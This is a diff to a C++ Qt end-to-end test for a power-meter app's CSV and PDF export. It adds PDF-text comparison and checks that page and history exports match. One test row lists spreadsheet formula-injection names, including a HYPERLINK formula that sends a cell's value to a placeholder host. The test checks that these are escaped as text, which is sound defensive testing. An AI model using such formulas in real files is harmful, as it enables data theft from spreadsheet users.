@@ -12,6 +12,7 @@
 #include <QProcess>
 #include <QTableWidget>
 #include <QTemporaryDir>
+#include <algorithm>
 
 using namespace e2e;
 
@@ -83,14 +84,43 @@ private:
         return rows;
     }
 
-    // "Export CSV…" in the window's menu.
-    void exportFromMenu()
+    // "Export CSV…" (or another entry) in the window's menu.
+    void exportFromMenu(const char *entryName = "exportCsvBtn")
     {
         button(window.get(), "menuBtn")->click();
         QPushButton *entry = nullptr;
-        if (QTest::qWaitFor([&]() { return (entry = button(window.get(), "exportCsvBtn")) && entry->isVisible(); },
+        if (QTest::qWaitFor([&]() { return (entry = button(window.get(), entryName)) && entry->isVisible(); },
                             5000))
             entry->click();
+    }
+
+    // Runs an export that writes one PDF and gives its text but for the
+    // moments of the export and of the download's start (the page and the
+    // history take the latter from two clocks a moment apart).
+    QStringList exportPdfText(const std::function<void()> &start)
+    {
+        QDir dir(reports.path());
+        QString message;
+        answerMessage("yesBtn", &message);
+        start();
+        if (!QTest::qWaitFor([&message]() { return !message.isEmpty(); }, 10000)
+            || message != QCoreApplication::translate("RecordPage", "Report exported"))
+            return {};
+        const QStringList files = dir.entryList({"*.pdf"});
+        if (files.size() != 1)
+            return {};
+        QProcess text;
+        text.start("pdftotext", {"-enc", "UTF-8", dir.filePath(files.first()), "-"});
+        if (!text.waitForFinished(30000) || text.exitCode() != 0)
+            return {};
+        dir.remove(files.first());
+        QStringList lines = QString::fromUtf8(text.readAllStandardOutput()).split('\n');
+        lines.erase(std::remove_if(lines.begin(), lines.end(),
+                                   [](const QString &line) {
+                                       return line.startsWith("Report made:") || line.startsWith("Downloaded:");
+                                   }),
+                    lines.end());
+        return lines;
     }
 
     QTableWidget *sessions() { return widget<QTableWidget>(window.get(), "historyTable"); }
@@ -163,8 +193,8 @@ private slots:
         QCOMPARE(again, fresh);
     }
 
-    // A live run comes back as the curve, read-only, and saves the workbook
-    // the run saved.
+    // A live run comes back as the curve, read-only, with the meter's powers
+    // (not the rounded texts), and saves the workbook the run saved.
     void liveRunOpensAsTheCurve()
     {
         QVERIFY(sim.start({"--kind", "5"}));
@@ -178,6 +208,13 @@ private slots:
         play->click(); // a pause
         QVERIFY(!window->isImporting());
         const int samples = chart->sampleCount();
+        const auto powers = [chart]() {
+            QStringList list;
+            for (const RealTimeOpmValue &reading : chart->storedReadings())
+                list << QString::number(double(reading.powerValue), 'g', 9);
+            return list;
+        };
+        const QStringList run = powers();
         const QJsonObject fresh = save();
         QVERIFY(!fresh.isEmpty());
 
@@ -191,6 +228,7 @@ private slots:
         button(window.get(), "historyOpenBtn")->click();
         QTRY_VERIFY(chart->isVisible());
         QCOMPARE(chart->sampleCount(), samples);
+        QCOMPARE(powers(), run);
         QVERIFY(!play->isEnabled());
         QVERIFY(!button(chart, "cleanBtn")->isEnabled());
         QVERIFY(!widget(window.get(), "realTimeParamWidget")->isVisible());
@@ -198,23 +236,21 @@ private slots:
     }
 
     // What a page shows and the history session it came from export the
-    // same CSV (a live run: the same times and powers; the history keeps no
-    // meter reference nor watts of live readings). Record names a
-    // spreadsheet would run as formulas are written as text.
+    // same CSV and the same PDF report (a live run: the same arrival times,
+    // the meter's reference and watts, statistics of the meter's powers).
+    // Record names a spreadsheet would run as formulas are written as text.
     void pageAndSessionExportTheSameCsv_data()
     {
         QTest::addColumn<QStringList>("meter");
         QTest::addColumn<QString>("pageButton");
-        QTest::addColumn<QStringList>("compared"); // empty: every column
-        QTest::addColumn<QStringList>("names");    // the name column, when checked
-        QTest::newRow("multi-wave") << QStringList{"--kind", "5", "--records", "6"} << "multiWaveOpmBtn" << QStringList{}
+        QTest::addColumn<QStringList>("names"); // the name column, when checked
+        QTest::newRow("multi-wave") << QStringList{"--kind", "5", "--records", "6"} << "multiWaveOpmBtn"
                                     << QStringList{};
         QTest::newRow("PON") << QStringList{"--kind", "2", "--range", "1", "--records", "6"} << "ponOpmBtn"
-                             << QStringList{} << QStringList{};
-        QTest::newRow("live") << QStringList{"--kind", "5"} << "chartBtn"
-                              << QStringList{"time", "wavelength_nm", "power", "unit"} << QStringList{};
+                             << QStringList{};
+        QTest::newRow("live") << QStringList{"--kind", "5"} << "chartBtn" << QStringList{};
         QTest::newRow("formula names")
-            << QStringList{"--scenario", LUMISK_SOURCE_DIR "/tests/cli/formula_names.json"} << "opmBtn" << QStringList{}
+            << QStringList{"--scenario", LUMISK_SOURCE_DIR "/tests/cli/formula_names.json"} << "opmBtn"
             << QStringList{"'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "'@SUM(1+1)", "'+1+2", "'-12.5",
                            "'\tcmd", "'\r=1+1", "A1=B1"};
     }
@@ -222,7 +258,6 @@ private slots:
     {
         QFETCH(QStringList, meter);
         QFETCH(QString, pageButton);
-        QFETCH(QStringList, compared);
         QFETCH(QStringList, names);
         if (pageButton == QLatin1String("chartBtn")) {
             QVERIFY(sim.start(meter));
@@ -244,6 +279,8 @@ private slots:
                 written << shown.at(row).value(int(shown.first().indexOf("name")));
             QCOMPARE(written, names);
         }
+        const QStringList shownPdf = exportPdfText([this]() { exportFromMenu("exportPdfBtn"); });
+        QVERIFY(shownPdf.size() > 3);
 
         answerMessage("noBtn"); // not saved first
         button(window.get(), "historyBtn")->click();
@@ -251,28 +288,14 @@ private slots:
         sessions()->setCurrentCell(0, 0);
         const QList<QStringList> stored
             = exportCsv([this]() { button(window.get(), "historyExportCsvBtn")->click(); });
-        QCOMPARE(stored.size(), shown.size());
-        const QStringList header = shown.first();
-        QCOMPARE(stored.first(), header);
-        for (int row = 1; row < shown.size(); ++row) {
-            for (int column = 0; column < header.size(); ++column) {
-                if (compared.isEmpty() || compared.contains(header.at(column)))
-                    QCOMPARE(stored.at(row).at(column), shown.at(row).at(column));
-            }
-        }
-
-        // The PDF report of the same session, from the history page.
-        QString message;
-        answerMessage("yesBtn", &message);
-        button(window.get(), "historyExportPdfBtn")->click();
-        QTRY_COMPARE(message, QCoreApplication::translate("RecordPage", "Report exported"));
-        const QStringList pdfs = QDir(reports.path()).entryList({"*.pdf"});
-        QCOMPARE(pdfs.size(), 1);
-        QProcess info;
-        info.start("pdfinfo", {QDir(reports.path()).filePath(pdfs.first())});
-        QVERIFY(info.waitForFinished(30000));
-        QCOMPARE(info.exitCode(), 0);
-        QVERIFY(QDir(reports.path()).remove(pdfs.first()));
+        const auto lines = [](const QList<QStringList> &rows) {
+            QStringList joined;
+            for (const QStringList &row : rows)
+                joined << row.join('|');
+            return joined;
+        };
+        QCOMPARE(lines(stored), lines(shown));
+        QCOMPARE(exportPdfText([this]() { button(window.get(), "historyExportPdfBtn")->click(); }), shownPdf);
     }
 
     void deleteAsksFirst()
